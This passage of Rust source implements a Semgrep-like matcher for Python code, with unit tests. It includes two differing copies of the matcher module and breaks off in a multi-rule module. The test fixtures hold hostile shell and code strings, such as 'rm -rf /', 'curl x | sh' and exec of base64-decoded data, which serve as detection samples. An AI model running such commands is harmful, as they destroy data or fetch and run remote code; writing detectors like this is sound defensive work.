        Stmt::Expr { value, .. } | Stmt::Assign { value, .. } => f(value),
        Stmt::Return { value: Some(v), .. } => f(v),
        _ => {}
    }
}

pub(crate) fn stmt_matches(pattern: &Stmt, target: &Stmt) -> bool {
    match (pattern, target) {
        (Stmt::Expr { value: pv, .. }, _) => {
            // An expression pattern matches any statement containing a
            // matching sub-expression.
            target_expressions(target)
                .iter()
                .any(|te| expr_matches_with_fresh_bindings(pv, te))
        }
        (
            Stmt::Assign {
                targets: pt,
                value: pv,
                ..
            },
            Stmt::Assign {
                targets: tt,
                value: tv,
                ..
            },
        ) => {
            let target_ok = pt
                .iter()
                .all(|p| is_metavar(p) || tt.iter().any(|t| t == p));
            target_ok && expr_matches_with_fresh_bindings(pv, tv)
        }
        (Stmt::Import { modules: pm, .. }, Stmt::Import { modules: tm, .. }) => {
            // Compare module paths only: `import os` matches
            // `import os as o` — the alias changes the binding, not
            // which module the package pulls in.
            pm.iter().all(|m| tm.iter().any(|t| t.path == m.path))
        }
        (
            Stmt::FromImport {
                module: pm,
                names: pn,
                ..
            },
            Stmt::FromImport {
                module: tm,
                names: tn,
                ..
            },
        ) => {
            pm == tm
                && pn
                    .iter()
                    .all(|n| n.path == "*" || tn.iter().any(|t| t.path == n.path))
        }
        (Stmt::Other { text: pt, .. }, _) => {
            // Fallback for pattern shapes the lightweight parser didn't
            // model: textual containment on the reconstructed statement.
            !pt.is_empty() && stmt_text(target).contains(pt.as_str())
        }
        _ => false,
    }
}

fn render_imported(names: &[pysrc::ImportedName]) -> String {
    names
        .iter()
        .map(|n| match &n.alias {
            Some(a) => format!("{} as {a}", n.path),
            None => n.path.clone(),
        })
        .collect::<Vec<_>>()
        .join(", ")
}

fn stmt_text(stmt: &Stmt) -> String {
    match stmt {
        Stmt::Expr { value, .. } => value.to_text(),
        Stmt::Assign { targets, value, .. } => {
            format!("{} = {}", targets.join(" = "), value.to_text())
        }
        Stmt::Return { value, .. } => match value {
            Some(v) => format!("return {}", v.to_text()),
            None => "return".into(),
        },
        Stmt::Other { text, .. } => text.clone(),
        Stmt::Block { header, .. } => header.clone(),
        Stmt::Import { modules, .. } => format!("import {}", render_imported(modules)),
        Stmt::FromImport { module, names, .. } => {
            format!("from {module} import {}", render_imported(names))
        }
        Stmt::FunctionDef { name, .. } => format!("def {name}"),
        Stmt::ClassDef { name, .. } => format!("class {name}"),
    }
}

/// Every expression (with nesting) reachable from a statement.
fn target_expressions(stmt: &Stmt) -> Vec<&Expr> {
    let mut roots = Vec::new();
    match stmt {
        Stmt::Expr { value, .. } | Stmt::Assign { value, .. } => roots.push(value),
        Stmt::Return { value: Some(v), .. } => roots.push(v),
        _ => {}
    }
    let mut out = Vec::new();
    for r in roots {
        collect_subexpressions(r, &mut out);
    }
    out
}

fn collect_subexpressions<'a>(expr: &'a Expr, out: &mut Vec<&'a Expr>) {
    out.push(expr);
    match expr {
        Expr::Call { func, args } => {
            collect_subexpressions(func, out);
            for a in args {
                collect_subexpressions(&a.value, out);
            }
        }
        Expr::Attribute { value, .. } => collect_subexpressions(value, out),
        Expr::BinOp { left, right, .. } => {
            collect_subexpressions(left, out);
            collect_subexpressions(right, out);
        }
        _ => {}
    }
}

fn expr_matches_with_fresh_bindings(pattern: &Expr, target: &Expr) -> bool {
    let mut bindings = HashMap::new();
    expr_matches(pattern, target, &mut bindings)
}

fn expr_matches<'t>(
    pattern: &Expr,
    target: &'t Expr,
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    match pattern {
        Expr::Name(n) if is_metavar(n) => match bindings.get(n) {
            Some(bound) => *bound == target,
            None => {
                bindings.insert(n.clone(), target);
                true
            }
        },
        Expr::Other(t) if t == "..." => true,
        Expr::Name(n) => matches!(target, Expr::Name(tn) if tn == n),
        Expr::Str(s) if s == "..." => matches!(target, Expr::Str(_)),
        Expr::Str(s) => matches!(target, Expr::Str(ts) if ts == s),
        Expr::Num(n) => matches!(target, Expr::Num(tn) if tn == n),
        Expr::Attribute { value, attr } => match target {
            Expr::Attribute {
                value: tv,
                attr: ta,
            } => attr == ta && expr_matches(value, tv, bindings),
            _ => false,
        },
        Expr::Call { func, args } => match target {
            Expr::Call { func: tf, args: ta } => {
                expr_matches(func, tf, bindings) && args_match(args, ta, bindings)
            }
            _ => false,
        },
        Expr::BinOp { left, op, right } => match target {
            Expr::BinOp {
                left: tl,
                op: to,
                right: tr,
            } => op == to && expr_matches(left, tl, bindings) && expr_matches(right, tr, bindings),
            _ => false,
        },
        Expr::Other(t) => match target {
            Expr::Other(tt) => t == tt,
            _ => *t == target.to_text(),
        },
    }
}

fn args_match<'t>(
    pattern: &[Arg],
    target: &'t [Arg],
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    let has_ellipsis = pattern
        .iter()
        .any(|a| a.name.is_none() && is_ellipsis(&a.value));

    // Keyword arguments: every pattern kwarg must match a target kwarg of
    // the same name.
    let pat_kwargs: Vec<&Arg> = pattern.iter().filter(|a| a.name.is_some()).collect();
    let tgt_kwargs: Vec<&Arg> = target.iter().filter(|a| a.name.is_some()).collect();
    for pk in &pat_kwargs {
        let name = pk.name.as_deref().expect("filtered on is_some");
        let Some(tk) = tgt_kwargs
            .iter()
            .find(|tk| tk.name.as_deref() == Some(name))
        else {
            return false;
        };
        if !expr_matches(&pk.value, &tk.value, bindings) {
            return false;
        }
    }
    if !has_ellipsis && tgt_kwargs.len() != pat_kwargs.len() {
        return false;
    }

    // Positional arguments: sequence match with ellipsis gaps.
    let pat_pos: Vec<&Arg> = pattern.iter().filter(|a| a.name.is_none()).collect();
    let tgt_pos: Vec<&Arg> = target.iter().filter(|a| a.name.is_none()).collect();
    seq_match(&pat_pos, &tgt_pos, bindings)
}

fn seq_match<'t>(
    pattern: &[&Arg],
    target: &[&'t Arg],
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    match pattern.split_first() {
        None => target.is_empty(),
        Some((first, rest)) if is_ellipsis(&first.value) => {
            // Ellipsis absorbs zero or more target args (backtracking).
            for skip in 0..=target.len() {
                let mut trial = bindings.clone();
                if seq_match(rest, &target[skip..], &mut trial) {
                    *bindings = trial;
                    return true;
                }
            }
            false
        }
        Some((first, rest)) => match target.split_first() {
            Some((tfirst, trest)) => {
                let mut trial = bindings.clone();
                if expr_matches(&first.value, &tfirst.value, &mut trial)
                    && seq_match(rest, trest, &mut trial)
                {
                    *bindings = trial;
                    true
                } else {
                    false
                }
            }
            None => false,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule::compile;

    fn rule_with_pattern(pattern: &str) -> SemgrepRule {
        let src = format!(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: {pattern}\n"
        );
        compile(&src).expect("compile").rules.remove(0)
    }

    fn lines(pattern: &str, source: &str) -> Vec<usize> {
        let rule = rule_with_pattern(pattern);
        match_module(&rule, &pysrc::parse_module(source))
            .into_iter()
            .map(|f| f.line)
            .collect()
    }

    #[test]
    fn exact_call_match() {
        assert_eq!(lines("os.system('id')", "os.system('id')\n"), vec![1]);
        assert!(lines("os.system('id')", "os.system('ls')\n").is_empty());
    }

    #[test]
    fn metavariable_matches_any_arg() {
        assert_eq!(lines("os.system($CMD)", "os.system(payload)\n"), vec![1]);
        assert_eq!(lines("os.system($CMD)", "os.system('rm -rf /')\n"), vec![1]);
    }

    #[test]
    fn metavariable_consistency() {
        // $X == $X requires both sides to be the same expression.
        let src_same = "check(a, a)\n";
        let src_diff = "check(a, b)\n";
        assert_eq!(lines("check($X, $X)", src_same), vec![1]);
        assert!(lines("check($X, $X)", src_diff).is_empty());
    }

    #[test]
    fn ellipsis_matches_any_args() {
        assert_eq!(
            lines(
                "subprocess.Popen(...)",
                "subprocess.Popen(cmd, shell=True)\n"
            ),
            vec![1]
        );
        assert_eq!(
            lines("subprocess.Popen(...)", "subprocess.Popen()\n"),
            vec![1]
        );
    }

    #[test]
    fn ellipsis_with_leading_arg() {
        assert_eq!(lines("f($A, ...)", "f(x, y, z)\n"), vec![1]);
        assert!(lines("f($A, ...)", "f()\n").is_empty());
    }

    #[test]
    fn keyword_argument_by_name() {
        let pat = "subprocess.Popen($CMD, shell=True)";
        assert_eq!(lines(pat, "subprocess.Popen(c, shell=True)\n"), vec![1]);
        assert!(lines(pat, "subprocess.Popen(c, shell=False)\n").is_empty());
        assert!(lines(pat, "subprocess.Popen(c)\n").is_empty());
    }

    #[test]
    fn nested_call_pattern() {
        let pat = "exec(base64.b64decode($X))";
        assert_eq!(lines(pat, "exec(base64.b64decode(data))\n"), vec![1]);
        assert!(lines(pat, "exec(codecs.decode(data))\n").is_empty());
    }

    #[test]
    fn matches_inside_function_bodies() {
        let src = "def install():\n    os.system('curl x | sh')\n";
        assert_eq!(lines("os.system($X)", src), vec![2]);
    }

    #[test]
    fn matches_subexpression() {
        // The call appears as an argument of another call.
        let src = "print(os.system('id'))\n";
        assert_eq!(lines("os.system($X)", src), vec![1]);
    }

    #[test]
    fn assignment_pattern() {
        assert_eq!(
            lines("$VAR = requests.get(...)", "resp = requests.get(url)\n"),
            vec![1]
        );
        assert!(lines("$VAR = requests.get(...)", "resp = requests.post(url)\n").is_empty());
    }

    #[test]
    fn import_pattern() {
        assert_eq!(lines("import socket", "import socket\n"), vec![1]);
        assert_eq!(lines("import socket", "import os, socket\n"), vec![1]);
        assert!(lines("import socket", "import os\n").is_empty());
    }

    #[test]
    fn from_import_pattern() {
        assert_eq!(
            lines(
                "from subprocess import Popen",
                "from subprocess import Popen, PIPE\n"
            ),
            vec![1]
        );
    }

    #[test]
    fn metavariable_as_receiver() {
        assert_eq!(
            lines(
                "$CLIENT.torrents_info(torrent_hashes=$HASH)",
                "qb.torrents_info(torrent_hashes=h)\n"
            ),
            vec![1]
        );
    }

    #[test]
    fn multiple_matches_multiple_lines() {
        let src = "eval(a)\nx = 1\neval(b)\n";
        assert_eq!(lines("eval($X)", src), vec![1, 3]);
    }

    #[test]
    fn patterns_conjunction_requires_all() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    patterns:
      - pattern: import socket
      - pattern: $S.connect(...)
"#;
        let rules = compile(src).expect("compile");
        let m_yes = pysrc::parse_module("import socket\ns.connect(addr)\n");
        let m_no = pysrc::parse_module("import socket\n");
        assert_eq!(match_module(&rules.rules[0], &m_yes).len(), 1);
        assert!(match_module(&rules.rules[0], &m_no).is_empty());
    }

    #[test]
    fn pattern_not_suppresses() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
"#;
        let rules = compile(src).expect("compile");
        let hit = pysrc::parse_module("open(path, 'w')\n");
        let suppressed = pysrc::parse_module("open('log.txt', 'w')\n");
        assert_eq!(match_module(&rules.rules[0], &hit).len(), 1);
        assert!(match_module(&rules.rules[0], &suppressed).is_empty());
    }

    #[test]
    fn pattern_either_union() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
"#;
        let rules = compile(src).expect("compile");
        let m = pysrc::parse_module("eval(a)\nexec(b)\n");
        assert_eq!(match_module(&rules.rules[0], &m).len(), 2);
    }

    #[test]
    fn findings_deduplicated() {
        // Same line matched through two sub-expressions reports once.
        let src = "f(g(h(x)))\n";
        let rule = rule_with_pattern("h($X)");
        let m = pysrc::parse_module(src);
        assert_eq!(match_module(&rule, &m).len(), 1);
    }

    #[test]
    fn finding_carries_rule_fields() {
        let rule = rule_with_pattern("eval($X)");
        let m = pysrc::parse_module("eval(x)\n");
        let f = &match_module(&rule, &m)[0];
        assert_eq!(f.rule_id, "t");
        assert_eq!(f.message, "m");
        assert_eq!(f.severity, Severity::Warning);
    }

    #[test]
    fn encode_metavars_is_byte_faithful_for_non_ascii() {
        // The seed pushed bytes as chars, re-encoding non-ASCII content
        // as Latin-1 mojibake; patterns with non-ASCII string literals
        // must survive encoding byte-for-byte.
        assert_eq!(encode_metavars("log('héllo wörld')"), "log('héllo wörld')");
        assert_eq!(encode_metavars("f($X, 'héllo')"), "f(__MV_X, 'héllo')");
        assert_eq!(encode_metavars("送信($データ)"), "送信($データ)");
    }

    #[test]
    fn non_ascii_string_literal_pattern_matches() {
        assert_eq!(lines("log('héllo')", "log('héllo')\n"), vec![1]);
        assert!(lines("log('héllo')", "log('hello')\n").is_empty());
    }

    #[test]
    fn scan_time_never_reparses_pattern_text() {
        // Pattern parsing happens inside `compile`; matching afterwards
        // must not touch `pysrc::parse_module` on pattern text. The
        // reparse counter is maintained by the reference oracle only.
        let _guard = crate::reference::TEST_COUNTER_LOCK
            .lock()
            .expect("counter lock");
        let rule = rule_with_pattern("os.system($X)");
        let module = pysrc::parse_module("os.system('id')\n");
        let before = crate::reference::pattern_reparse_count();
        for _ in 0..10 {
            assert_eq!(match_module(&rule, &module).len(), 1);
        }
        assert_eq!(crate::reference::pattern_reparse_count(), before);
        // The oracle, by contrast, re-parses once per leaf per call.
        let _ = crate::reference::match_module(&rule, &module);
        assert_eq!(crate::reference::pattern_reparse_count(), before + 1);
    }

    #[test]
    fn anchors_classify_pattern_shapes() {
        let anchor = |pat: &str| compile_leaf(pat).anchor;
        assert_eq!(anchor("os.system($X)"), Anchor::Ident("system".into()));
        assert_eq!(anchor("eval($X)"), Anchor::Ident("eval".into()));
        assert_eq!(
            anchor("$V = requests.get(...)"),
            Anchor::Ident("get".into())
        );
        assert_eq!(anchor("import socket"), Anchor::ImportRoot("socket".into()));
        assert_eq!(
            anchor("from subprocess import Popen"),
            Anchor::FromImportModule("subprocess".into())
        );
        assert_eq!(anchor("$A($B)"), Anchor::Always);
        // Shapes the matcher never matches are dead on arrival.
        assert_eq!(anchor("def foo(): pass"), Anchor::Dead);
    }
}

//! Structural pattern matching over the [`pysrc`] AST.
//!
//! Supports the Semgrep features the paper's generated rules use:
//! metavariables (`$X`, bound consistently within one pattern), ellipsis
//! arguments (`f(...)`, `f($A, ...)`), keyword arguments matched by name
//! (`subprocess.Popen($CMD, shell=True)`), dotted callee paths and
//! assignment patterns (`$VAR = requests.get(...)`).

use std::collections::HashMap;

use pysrc::{Arg, Expr, Module, Stmt};

use crate::rule::{PatternOp, SemgrepRule, Severity};

/// One rule match at a source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Matching rule id.
    pub rule_id: String,
    /// 1-based line of the matched statement.
    pub line: usize,
    /// The rule message.
    pub message: String,
    /// The rule severity.
    pub severity: Severity,
}

/// Matches one rule against a module, returning deduplicated findings.
pub fn match_module(rule: &SemgrepRule, module: &Module) -> Vec<Finding> {
    let lines = eval_op(&rule.pattern, module);
    let mut lines: Vec<usize> = lines.into_iter().collect();
    lines.sort_unstable();
    lines.dedup();
    lines
        .into_iter()
        .map(|line| Finding {
            rule_id: rule.id.clone(),
            line,
            message: rule.message.clone(),
            severity: rule.severity,
        })
        .collect()
}

/// Evaluates a pattern-operator tree to the set of matching lines.
fn eval_op(op: &PatternOp, module: &Module) -> Vec<usize> {
    match op {
        PatternOp::Pattern(text) => pattern_lines(text, module),
        PatternOp::Either(children) => {
            let mut out = Vec::new();
            for c in children {
                out.extend(eval_op(c, module));
            }
            out
        }
        PatternOp::All(children) => {
            // Conjunction: every positive child must match somewhere and no
            // negative child may match anywhere; findings are reported at
            // the first positive child's lines (a file-level approximation
            // of semgrep's range intersection).
            let mut result: Option<Vec<usize>> = None;
            for c in children {
                match c {
                    PatternOp::Not(inner) => {
                        if !eval_op(inner, module).is_empty() {
                            return Vec::new();
                        }
                    }
                    other => {
                        let lines = eval_op(other, module);
                        if lines.is_empty() {
                            return Vec::new();
                        }
                        if result.is_none() {
                            result = Some(lines);
                        }
                    }
                }
            }
            result.unwrap_or_default()
        }
        PatternOp::Not(inner) => {
            // A top-level bare `pattern-not` (degenerate, but the LLM can
            // produce it): matches nothing on its own.
            let _ = eval_op(inner, module);
            Vec::new()
        }
    }
}

/// Replaces `$NAME` with `__MV_NAME` so the Python parser accepts the
/// pattern text.
fn encode_metavars(pattern: &str) -> String {
    let bytes = pattern.as_bytes();
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$'
            && i + 1 < bytes.len()
            && (bytes[i + 1].is_ascii_alphabetic() || bytes[i + 1] == b'_')
        {
            out.push_str("__MV_");
            i += 1;
        } else {
            out.push(bytes[i] as char);
            i += 1;
        }
    }
    out
}

fn is_metavar(name: &str) -> bool {
    name.starts_with("__MV_")
}

fn is_ellipsis(expr: &Expr) -> bool {
    matches!(expr, Expr::Other(t) if t == "...")
}

fn pattern_lines(pattern: &str, module: &Module) -> Vec<usize> {
    let encoded = encode_metavars(pattern);
    let pat_module = pysrc::parse_module(&encoded);
    let Some(pat_stmt) = pat_module.body.first() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    walk_statements(&module.body, &mut |stmt| {
        if stmt_matches(pat_stmt, stmt) {
            out.push(stmt.line());
        }
    });
    out
}

fn walk_statements<'a>(body: &'a [Stmt], f: &mut impl FnMut(&'a Stmt)) {
    for stmt in body {
        f(stmt);
        match stmt {
            Stmt::FunctionDef { body, .. }
            | Stmt::ClassDef { body, .. }
            | Stmt::Block { body, .. } => walk_statements(body, f),
            _ => {}
        }
    }
}

fn stmt_matches(pattern: &Stmt, target: &Stmt) -> bool {
    match (pattern, target) {
        (Stmt::Expr { value: pv, .. }, _) => {
            // An expression pattern matches any statement containing a
            // matching sub-expression.
            target_expressions(target)
                .iter()
                .any(|te| expr_matches_with_fresh_bindings(pv, te))
        }
        (
            Stmt::Assign {
                targets: pt,
                value: pv,
                ..
            },
            Stmt::Assign {
                targets: tt,
                value: tv,
                ..
            },
        ) => {
            let target_ok = pt
                .iter()
                .all(|p| is_metavar(p) || tt.iter().any(|t| t == p));
            target_ok && expr_matches_with_fresh_bindings(pv, tv)
        }
        (Stmt::Import { modules: pm, .. }, Stmt::Import { modules: tm, .. }) => {
            pm.iter().all(|m| tm.contains(m))
        }
        (
            Stmt::FromImport {
                module: pm,
                names: pn,
                ..
            },
            Stmt::FromImport {
                module: tm,
                names: tn,
                ..
            },
        ) => pm == tm && pn.iter().all(|n| n == "*" || tn.contains(n)),
        (Stmt::Other { text: pt, .. }, _) => {
            // Fallback for pattern shapes the lightweight parser didn't
            // model: textual containment on the reconstructed statement.
            !pt.is_empty() && stmt_text(target).contains(pt.as_str())
        }
        _ => false,
    }
}

fn stmt_text(stmt: &Stmt) -> String {
    match stmt {
        Stmt::Expr { value, .. } => value.to_text(),
        Stmt::Assign { targets, value, .. } => {
            format!("{} = {}", targets.join(" = "), value.to_text())
        }
        Stmt::Return { value, .. } => match value {
            Some(v) => format!("return {}", v.to_text()),
            None => "return".into(),
        },
        Stmt::Other { text, .. } => text.clone(),
        Stmt::Block { header, .. } => header.clone(),
        Stmt::Import { modules, .. } => format!("import {}", modules.join(", ")),
        Stmt::FromImport { module, names, .. } => {
            format!("from {module} import {}", names.join(", "))
        }
        Stmt::FunctionDef { name, .. } => format!("def {name}"),
        Stmt::ClassDef { name, .. } => format!("class {name}"),
    }
}

/// Every expression (with nesting) reachable from a statement.
fn target_expressions(stmt: &Stmt) -> Vec<&Expr> {
    let mut roots = Vec::new();
    match stmt {
        Stmt::Expr { value, .. } | Stmt::Assign { value, .. } => roots.push(value),
        Stmt::Return { value: Some(v), .. } => roots.push(v),
        _ => {}
    }
    let mut out = Vec::new();
    for r in roots {
        collect_subexpressions(r, &mut out);
    }
    out
}

fn collect_subexpressions<'a>(expr: &'a Expr, out: &mut Vec<&'a Expr>) {
    out.push(expr);
    match expr {
        Expr::Call { func, args } => {
            collect_subexpressions(func, out);
            for a in args {
                collect_subexpressions(&a.value, out);
            }
        }
        Expr::Attribute { value, .. } => collect_subexpressions(value, out),
        Expr::BinOp { left, right, .. } => {
            collect_subexpressions(left, out);
            collect_subexpressions(right, out);
        }
        _ => {}
    }
}

fn expr_matches_with_fresh_bindings(pattern: &Expr, target: &Expr) -> bool {
    let mut bindings = HashMap::new();
    expr_matches(pattern, target, &mut bindings)
}

fn expr_matches<'t>(
    pattern: &Expr,
    target: &'t Expr,
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    match pattern {
        Expr::Name(n) if is_metavar(n) => match bindings.get(n) {
            Some(bound) => *bound == target,
            None => {
                bindings.insert(n.clone(), target);
                true
            }
        },
        Expr::Other(t) if t == "..." => true,
        Expr::Name(n) => matches!(target, Expr::Name(tn) if tn == n),
        Expr::Str(s) if s == "..." => matches!(target, Expr::Str(_)),
        Expr::Str(s) => matches!(target, Expr::Str(ts) if ts == s),
        Expr::Num(n) => matches!(target, Expr::Num(tn) if tn == n),
        Expr::Attribute { value, attr } => match target {
            Expr::Attribute {
                value: tv,
                attr: ta,
            } => attr == ta && expr_matches(value, tv, bindings),
            _ => false,
        },
        Expr::Call { func, args } => match target {
            Expr::Call { func: tf, args: ta } => {
                expr_matches(func, tf, bindings) && args_match(args, ta, bindings)
            }
            _ => false,
        },
        Expr::BinOp { left, op, right } => match target {
            Expr::BinOp {
                left: tl,
                op: to,
                right: tr,
            } => op == to && expr_matches(left, tl, bindings) && expr_matches(right, tr, bindings),
            _ => false,
        },
        Expr::Other(t) => match target {
            Expr::Other(tt) => t == tt,
            _ => *t == target.to_text(),
        },
    }
}

fn args_match<'t>(
    pattern: &[Arg],
    target: &'t [Arg],
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    let has_ellipsis = pattern
        .iter()
        .any(|a| a.name.is_none() && is_ellipsis(&a.value));

    // Keyword arguments: every pattern kwarg must match a target kwarg of
    // the same name.
    let pat_kwargs: Vec<&Arg> = pattern.iter().filter(|a| a.name.is_some()).collect();
    let tgt_kwargs: Vec<&Arg> = target.iter().filter(|a| a.name.is_some()).collect();
    for pk in &pat_kwargs {
        let name = pk.name.as_deref().expect("filtered on is_some");
        let Some(tk) = tgt_kwargs
            .iter()
            .find(|tk| tk.name.as_deref() == Some(name))
        else {
            return false;
        };
        if !expr_matches(&pk.value, &tk.value, bindings) {
            return false;
        }
    }
    if !has_ellipsis && tgt_kwargs.len() != pat_kwargs.len() {
        return false;
    }

    // Positional arguments: sequence match with ellipsis gaps.
    let pat_pos: Vec<&Arg> = pattern.iter().filter(|a| a.name.is_none()).collect();
    let tgt_pos: Vec<&Arg> = target.iter().filter(|a| a.name.is_none()).collect();
    seq_match(&pat_pos, &tgt_pos, bindings)
}

fn seq_match<'t>(
    pattern: &[&Arg],
    target: &[&'t Arg],
    bindings: &mut HashMap<String, &'t Expr>,
) -> bool {
    match pattern.split_first() {
        None => target.is_empty(),
        Some((first, rest)) if is_ellipsis(&first.value) => {
            // Ellipsis absorbs zero or more target args (backtracking).
            for skip in 0..=target.len() {
                let mut trial = bindings.clone();
                if seq_match(rest, &target[skip..], &mut trial) {
                    *bindings = trial;
                    return true;
                }
            }
            false
        }
        Some((first, rest)) => match target.split_first() {
            Some((tfirst, trest)) => {
                let mut trial = bindings.clone();
                if expr_matches(&first.value, &tfirst.value, &mut trial)
                    && seq_match(rest, trest, &mut trial)
                {
                    *bindings = trial;
                    true
                } else {
                    false
                }
            }
            None => false,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule::compile;

    fn rule_with_pattern(pattern: &str) -> SemgrepRule {
        let src = format!(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: {pattern}\n"
        );
        compile(&src).expect("compile").rules.remove(0)
    }

    fn lines(pattern: &str, source: &str) -> Vec<usize> {
        let rule = rule_with_pattern(pattern);
        match_module(&rule, &pysrc::parse_module(source))
            .into_iter()
            .map(|f| f.line)
            .collect()
    }

    #[test]
    fn exact_call_match() {
        assert_eq!(lines("os.system('id')", "os.system('id')\n"), vec![1]);
        assert!(lines("os.system('id')", "os.system('ls')\n").is_empty());
    }

    #[test]
    fn metavariable_matches_any_arg() {
        assert_eq!(lines("os.system($CMD)", "os.system(payload)\n"), vec![1]);
        assert_eq!(lines("os.system($CMD)", "os.system('rm -rf /')\n"), vec![1]);
    }

    #[test]
    fn metavariable_consistency() {
        // $X == $X requires both sides to be the same expression.
        let src_same = "check(a, a)\n";
        let src_diff = "check(a, b)\n";
        assert_eq!(lines("check($X, $X)", src_same), vec![1]);
        assert!(lines("check($X, $X)", src_diff).is_empty());
    }

    #[test]
    fn ellipsis_matches_any_args() {
        assert_eq!(
            lines(
                "subprocess.Popen(...)",
                "subprocess.Popen(cmd, shell=True)\n"
            ),
            vec![1]
        );
        assert_eq!(
            lines("subprocess.Popen(...)", "subprocess.Popen()\n"),
            vec![1]
        );
    }

    #[test]
    fn ellipsis_with_leading_arg() {
        assert_eq!(lines("f($A, ...)", "f(x, y, z)\n"), vec![1]);
        assert!(lines("f($A, ...)", "f()\n").is_empty());
    }

    #[test]
    fn keyword_argument_by_name() {
        let pat = "subprocess.Popen($CMD, shell=True)";
        assert_eq!(lines(pat, "subprocess.Popen(c, shell=True)\n"), vec![1]);
        assert!(lines(pat, "subprocess.Popen(c, shell=False)\n").is_empty());
        assert!(lines(pat, "subprocess.Popen(c)\n").is_empty());
    }

    #[test]
    fn nested_call_pattern() {
        let pat = "exec(base64.b64decode($X))";
        assert_eq!(lines(pat, "exec(base64.b64decode(data))\n"), vec![1]);
        assert!(lines(pat, "exec(codecs.decode(data))\n").is_empty());
    }

    #[test]
    fn matches_inside_function_bodies() {
        let src = "def install():\n    os.system('curl x | sh')\n";
        assert_eq!(lines("os.system($X)", src), vec![2]);
    }

    #[test]
    fn matches_subexpression() {
        // The call appears as an argument of another call.
        let src = "print(os.system('id'))\n";
        assert_eq!(lines("os.system($X)", src), vec![1]);
    }

    #[test]
    fn assignment_pattern() {
        assert_eq!(
            lines("$VAR = requests.get(...)", "resp = requests.get(url)\n"),
            vec![1]
        );
        assert!(lines("$VAR = requests.get(...)", "resp = requests.post(url)\n").is_empty());
    }

    #[test]
    fn import_pattern() {
        assert_eq!(lines("import socket", "import socket\n"), vec![1]);
        assert_eq!(lines("import socket", "import os, socket\n"), vec![1]);
        assert!(lines("import socket", "import os\n").is_empty());
    }

    #[test]
    fn from_import_pattern() {
        assert_eq!(
            lines(
                "from subprocess import Popen",
                "from subprocess import Popen, PIPE\n"
            ),
            vec![1]
        );
    }

    #[test]
    fn metavariable_as_receiver() {
        assert_eq!(
            lines(
                "$CLIENT.torrents_info(torrent_hashes=$HASH)",
                "qb.torrents_info(torrent_hashes=h)\n"
            ),
            vec![1]
        );
    }

    #[test]
    fn multiple_matches_multiple_lines() {
        let src = "eval(a)\nx = 1\neval(b)\n";
        assert_eq!(lines("eval($X)", src), vec![1, 3]);
    }

    #[test]
    fn patterns_conjunction_requires_all() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    patterns:
      - pattern: import socket
      - pattern: $S.connect(...)
"#;
        let rules = compile(src).expect("compile");
        let m_yes = pysrc::parse_module("import socket\ns.connect(addr)\n");
        let m_no = pysrc::parse_module("import socket\n");
        assert_eq!(match_module(&rules.rules[0], &m_yes).len(), 1);
        assert!(match_module(&rules.rules[0], &m_no).is_empty());
    }

    #[test]
    fn pattern_not_suppresses() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
"#;
        let rules = compile(src).expect("compile");
        let hit = pysrc::parse_module("open(path, 'w')\n");
        let suppressed = pysrc::parse_module("open('log.txt', 'w')\n");
        assert_eq!(match_module(&rules.rules[0], &hit).len(), 1);
        assert!(match_module(&rules.rules[0], &suppressed).is_empty());
    }

    #[test]
    fn pattern_either_union() {
        let src = r#"
rules:
  - id: t
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
"#;
        let rules = compile(src).expect("compile");
        let m = pysrc::parse_module("eval(a)\nexec(b)\n");
        assert_eq!(match_module(&rules.rules[0], &m).len(), 2);
    }

    #[test]
    fn findings_deduplicated() {
        // Same line matched through two sub-expressions reports once.
        let src = "f(g(h(x)))\n";
        let rule = rule_with_pattern("h($X)");
        let m = pysrc::parse_module(src);
        assert_eq!(match_module(&rule, &m).len(), 1);
    }

    #[test]
    fn finding_carries_rule_fields() {
        let rule = rule_with_pattern("eval($X)");
        let m = pysrc::parse_module("eval(x)\n");
        let f = &match_module(&rule, &m)[0];
        assert_eq!(f.rule_id, "t");
        assert_eq!(f.message, "m");
        assert_eq!(f.severity, Severity::Warning);
    }
}

//! Multi-rule single-pass matching: one AST walk serves every rule.
//!
//! [`MatchSet`] is built once per ruleset (per worker, like
//! `yara_engine::Scanner`) from the pattern ASTs that [`crate::compile`]
//! stored; construction parses nothing. During a scan the target module
//! is walked **once**, and each statement is dispatched only to the
//! pattern leaves whose [anchor](crate::matcher) facts it exhibits —
//! call-head / attribute / name identifiers, import roots, `from`-import
//! modules — so most rules never touch most statements. Leaves without a
//! sound anchor are tested against every statement, preserving exact
//! equivalence with the per-rule matcher (proven by the differential
//! property suite against [`crate::reference`]).
//!
//! All per-scan state lives in a caller-owned [`MatchScratch`] with
//! generation-stamped slots, so a long-lived worker allocates nothing on
//! the steady-state scan path.

use std::collections::HashMap;

use pysrc::{Expr, Module, Stmt};

use crate::matcher::{
    eval_tree, for_each_expr_root, stmt_matches, walk_statements, Anchor, CompiledOp, Finding,
    OpNode, OpShape,
};
use crate::rule::CompiledSemgrepRules;

/// Work counters for one [`MatchSet::match_module_set`] pass.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SemgrepMetrics {
    /// Statements visited by the single module walk.
    pub stmts_visited: u64,
    /// Pattern-leaf structural match attempts actually performed (after
    /// anchor dispatch and routing filtered the rest).
    pub leaf_tests: u64,
